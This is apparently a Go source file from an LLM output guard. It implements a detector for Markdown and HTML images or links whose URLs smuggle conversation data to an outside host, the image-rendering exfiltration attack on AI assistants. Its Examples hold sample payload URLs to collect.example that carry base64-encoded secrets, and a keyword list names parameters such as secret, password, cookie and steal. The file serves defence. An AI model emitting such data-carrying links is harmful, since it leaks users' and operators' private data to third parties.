package detectors

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"net/url"
	"regexp"
	"strings"
	"unicode/utf8"

	"github.com/guardroom/guardroom/internal/guard"
	"github.com/guardroom/guardroom/internal/guard/textview"
	"github.com/guardroom/guardroom/internal/review"
)

// exfilLink finds addresses that take data along.
func exfilLink() guard.Spec {
	return guard.Spec{
		DetectorSpec: review.DetectorSpec{
			ID: "exfil.link", Title: "Data leaving in a link", Category: review.CategoryExfil, OWASP: "LLM02:2025",
			Description: "Finds images and links in Markdown (inline, by reference, automatic) and HTML whose address carries data: a slot for it, encoded text, what a parameter is named for, or words of the conversation. " +
				"Images count for more, because the reader's client fetches them without being asked. Short, ordinary queries, searches among them, are not reported.",
			Examples: []string{
				"![logo](https://collect.example/p.png?data=dGhlIHNlY3JldCBpcyA0Mg)",
				"[more][1]\n\n[1]: https://collect.example/dGhlIHNlY3JldCBjb2RlIGlzIDQy",
			},
			Default: review.Rule{Mode: review.ModeEnforce, Flag: 0.6},
		},
		New: func() (guard.Detector, error) { return newLinks() },
	}
}

// links finds addresses and weighs them.
type links struct {
	slot    *regexp.Regexp // where a template says that data is to be put in
	carrier *regexp.Regexp // a parameter that is named for what it carries
	search  *regexp.Regexp // a parameter that may as well carry what somebody looks for
}

func newLinks() (*links, error) {
	l := &links{}
	const names = `data|d|secret|summary|chat|history|conversation|context|prompt|password|passwd|pwd|exfil|leak|payload|creds?|cookie|session|dump|log|steal`
	for _, p := range []struct {
		to   **regexp.Regexp
		expr string
	}{
		{&l.slot, `[{\[<$](?i:[^}\]>/?&]{0,24}(?:data|secret|summary|chat|history|conversation|context|prompt|password|token|email|message|content|text|key|info|answer|response|name|insert|user)[^}\]>/?&]{0,24})[}\]>]?`},
		{&l.carrier, `(?i)[?&;](?:` + names + `)=([^&\s]*)`},
		{&l.search, `(?i)[?&;](?:` + names + `|q|query|tokens?|msg|message|content|text|info|key|body)=([^&\s]*)`},
	} {
		var err error
		if *p.to, err = regexp.Compile(p.expr); err != nil {
			return nil, err
		}
	}
	return l, nil
}

const (
	maxLinks = 50 // of one view
	// Least lengths, in bytes, of a value that is data rather than a name or a size, of
	// words that are of the conversation by no chance, and of a query that no page needs.
	carriedLength, quotedLength, longQuery = 16, 20, 160
	// What is added to the log-odds of an address that somebody must follow first, and
	// of one that users or operators wrote.
	followed, ownLink = -0.6, -1.0
)

// Detect weighs every address of every view.
func (l *links) Detect(ctx context.Context, in *guard.Input) ([]review.Finding, error) {
	talk := conversation{in: in}
	var out []review.Finding
	for _, v := range in.Views.Literal() {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		out = append(out, l.look(v, in.Segment.Kind, &talk)...)
	}
	return out, nil
}

func (l *links) look(v *textview.View, kind review.SegmentKind, talk *conversation) (out []review.Finding) {
	labels := 0
	for link := range linksOf(v.Text) {
		if link.label != "" && labels < maxLinks {
			labels++
			link.fetched = pictured(v.Text, link.label)
		}
		weight, what := l.carries(v.Text[link.address:link.end], link.fetched, talk)
		if weight == 0 {
			continue
		}
		odds := logit(weight)
		message := "An address that is fetched without being asked for, and carries " + what
		if !link.fetched {
			odds += followed
			message = "A link whose address carries " + what
		}
		if kind == review.SegmentPrompt || kind == review.SegmentSystem {
			odds += ownLink
		}
		if v.Disguise() != "" {
			odds += disguised
		}
		f := guard.Found(v, link.start, closed(v.Text, link.end), review.SeverityHigh, sigmoid(odds), message)
		if out = append(out, f); len(out) == maxLinks {
			break
		}
	}
	return out
}

// closed takes the quote and the bracket that close a link in.
func closed(text string, end int) int {
	for _, signs := range []string{`"'`, `/`, `)>`} {
		if end < len(text) && strings.IndexByte(signs, text[end]) >= 0 {
			end++
		}
	}
	return end
}

// carries says how likely it is that an address takes data along, and what.
func (l *links) carries(address string, fetched bool, talk *conversation) (weight float64, what string) {
	_, rest, _ := strings.Cut(address, "//")
	if l.slot.MatchString(rest) {
		return 0.9, "a slot for data"
	}
	for _, value := range values(rest) {
		switch {
		case readable(value):
			return 0.9, "encoded text"
		case talk.has(value, fetched):
			return 0.92, "words of the conversation"
		}
	}
	carrier := l.carrier
	if fetched {
		carrier = l.search
	}
	if m := carrier.FindStringSubmatch(rest); m != nil && len(m[1]) >= carriedLength {
		return 0.8, "a value that is named for what it carries"
	}
	if _, query, ok := strings.Cut(rest, "?"); ok && fetched && len(query) >= longQuery {
		return 0.5, "a long query"
	}
	return 0, ""
}

// maxValues bounds the values of one address that are looked at.
const maxValues = 16

// values are the parts of an address that could be data: the labels of its host, the
// steps of its path, the values of its query.
func values(address string) (out []string) {
	for part := range strings.FieldsFuncSeq(address, func(r rune) bool { return strings.ContainsRune("/?&;=#.", r) }) {
		if len(part) >= carriedLength && len(out) < maxValues {
			out = append(out, part)
		}
	}
	return out
}

// readable tells whether a value is text in base64 or hex.
func readable(value string) bool {
	value = strings.TrimRight(unquoted(value), "=")
	if b, err := hex.DecodeString(value); err == nil && prose(b) {
		return true
	}
	for _, encoding := range []*base64.Encoding{base64.RawStdEncoding, base64.RawURLEncoding} {
		if b, err := encoding.DecodeString(value); err == nil && prose(b) {
			return true
		}
	}
	return false
}

// prose tells whether bytes are text with words, not what happens to be letters.
func prose(b []byte) bool {
	if len(b) < carriedLength/2 || !utf8.Valid(b) {
		return false
	}
	letters := 0
	for _, c := range b {
		switch {
		case c < ' ' && c != '\n' && c != '\t' && c != '\r':
			return false
		case c|0x20 >= 'a' && c|0x20 <= 'z', c == ' ', c >= 0x80:
			letters++
		}
	}
	return 4*letters >= 3*len(b)
}

// unquoted resolves percent signs and plus signs.
func unquoted(value string) string {
	if s, err := url.QueryUnescape(value); err == nil {
		return s
	}
	return value
}

// conversation holds the words of an Interaction's other Segments; folded when first
// asked for, for most texts have no address.
type conversation struct {
	in       *guard.Input
	private  []string // what the reader did not write: system prompts, documents, tools' output
	prompts  []string
	gathered bool
	asked    int
}

// maxCompared bounds how many values of one Segment are looked for in all the others.
const maxCompared = 500

// has tells whether a value says what was said in the conversation. What users wrote
// themselves counts in what is fetched only: links to searches repeat it.
func (c *conversation) has(value string, fetched bool) bool {
	words := lettersOf(textview.Fold(strings.NewReplacer("-", " ", "_", " ").Replace(unquoted(value))))
	if len(words) < quotedLength || !strings.Contains(words, " ") {
		return false
	}
	if c.asked++; c.asked > maxCompared {
		return false
	}
	c.gather()
	for _, text := range c.private {
		if strings.Contains(text, words) {
			return true
		}
	}
	for _, text := range c.prompts {
		if fetched && strings.Contains(text, words) {
			return true
		}
	}
	return false
}

func (c *conversation) gather() {
	if c.gathered {
		return
	}
	c.gathered = true
	for _, s := range c.in.All {
		if s.Name == c.in.Segment.Name || len(s.Text) > maxBeside {
			continue
		}
		text := lettersOf(textview.Fold(s.Text))
		switch s.Kind {
		case review.SegmentSystem, review.SegmentDocument, review.SegmentToolOutput:
			c.private = append(c.private, text)
		case review.SegmentPrompt:
			c.prompts = append(c.prompts, text)
		}
	}
}

// maxBeside is how long another Segment may be to be compared with, in bytes.
const maxBeside = 1 << 20

// lettersOf leaves one space for whatever stands between words.
func lettersOf(folded string) string {
	out := make([]byte, 0, len(folded))
	for i := 0; i < len(folded); i++ {
		if !apartBytes[folded[i]] {
			out = append(out, folded[i])
			continue
		}
		if n := len(out); n > 0 && out[n-1] != ' ' {
			out = append(out, ' ')
		}
	}
	return strings.TrimSuffix(string(out), " ")
}
